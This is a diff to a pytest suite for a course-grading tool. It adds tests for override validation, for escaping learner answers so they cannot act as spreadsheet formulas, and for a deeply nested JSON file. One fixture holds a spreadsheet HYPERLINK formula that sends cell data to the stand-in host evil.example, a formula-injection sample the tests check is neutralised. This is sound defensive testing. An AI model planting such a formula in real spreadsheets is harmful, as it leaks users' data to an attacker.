@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+import json
 from pathlib import Path
 
 import pytest
@@ -176,10 +177,62 @@ def test_an_override_replaces_a_computed_score_and_survives_a_regrade(graded):
     assert float(wide["ann"]["03-commerce-loop"]) == _points(COMMERCE, "code")
 
 
-@pytest.mark.parametrize("line, words", [("ann,9.9,1,", "line 2: each row needs a learner id and a task id"),
-                                         ("ann,03.1,5,", "line 2: the score \"5\" is not a number from 0 to 1")])
+@pytest.mark.parametrize("line, words", [
+    ("ann,9.9,1,", "line 2: each row needs a learner id and a task id"),
+    ("ann,03.1,5,", "line 2: the score \"5\" is not a number from 0 to 1"),
+    ("Ann,03.1,1,", "line 2: there is no learner \"Ann\"; learner ids are case-sensitive: write \"ann\""),
+    ("zed,03.1,1,", "line 2: there is no learner \"zed\" in the class"),
+    ("ann,03.1,1,\nbob,03.1,0,\nann,3.1,0,", "lines 2 and 4: two rows for ann and task 03.1"),
+])
 def test_a_bad_override_names_the_line(graded, line, words):
     base, out = graded
     (out / "overrides.csv").write_text(f"learner,task,score,comment\n{line}\n", encoding="utf-8")
     with pytest.raises(CourseInputError, match=words):
         grade_class(base, out, workers=1)
+
+
+def test_learner_text_is_never_a_formula_in_a_sheet_and_reads_back_unchanged(write_notebook, tmp_path, fake_grader):
+    base, out = tmp_path / "submissions", tmp_path / "grades"
+    formula = '=HYPERLINK("http://evil.example/?x="&A3,"Rubric: see here") a flash sale pays as a hook.'
+    write_notebook(base / "ann" / COMMERCE, COMMERCE, answer=formula)
+    write_notebook(base / "@bob" / COMMERCE, COMMERCE, answer="-1 is what it costs.")
+    grade_class(base, out, workers=1)
+    task = _written(COMMERCE)
+    sheet = out / "written" / f"{task.id}.csv"
+    raw = {row["learner"]: row for row in _csv(sheet, "utf-8-sig")}
+    assert raw["ann"]["answer"] == "'" + formula and raw["'@bob"]["answer"] == "'-1 is what it costs."
+    assert {row["learner"] for row in _csv(out / "gradebook-long.csv")} == {"ann", "'@bob"}
+    _enter(sheet, "ann", "2", "")
+    summary = grade_class(base, out, workers=1)  # read back: the same answer, so no "changed since scored"
+    assert not [warning for warning in summary["warnings"] if "changed the written answer" in warning]
+    rows = {row["learner"]: row for row in _csv(sheet, "utf-8-sig")}
+    assert (rows["ann"]["answer"], rows["ann"]["score"]) == ("'" + formula, "2")
+    assert len(rows) == 2  # '@bob is still @bob, not a new learner
+
+
+def test_quiz_grades_never_hold_a_formula_and_a_too_deep_progress_file_is_named(tmp_path):
+    from course_utils.instructor.quiz_answers import grade_folder, write_csv
+    from course_utils.quiz.bank import all_banks, lesson_name, load_bank
+
+    bank = load_bank(lesson_name(all_banks()[0]))
+    question = bank.questions[0]
+    (tmp_path / "ann").mkdir()
+    (tmp_path / "ann" / "progress.json").write_text(json.dumps(
+        {"learners": {"ann": {bank.lesson: {question.id: {"first_answer": "=1+1", "answer": "=1+1"}}}}}),
+        encoding="utf-8")
+    (tmp_path / "deep").mkdir()
+    (tmp_path / "deep" / "progress.json").write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
+    rows = grade_folder(tmp_path, banks=[bank])
+    deep = {row["note"] for row in rows if row["learner"] == "deep"}
+    assert deep == {"progress.json cannot be read (RecursionError)"}
+    out = write_csv(rows, tmp_path / "quiz-grades.csv")
+    cell = next(row for row in _csv(out) if row["learner"] == "ann" and row["question"] == question.id)
+    assert cell["answer"] == "'=1+1"
+
+
+def test_lms_columns_are_named_the_same_in_every_language():
+    from course_utils.i18n import using_language
+    from course_utils.instructor.gradebook.exports import column_title
+
+    with using_language("zh"):
+        assert column_title(COMMERCE) == "Exercise 03-commerce-loop"
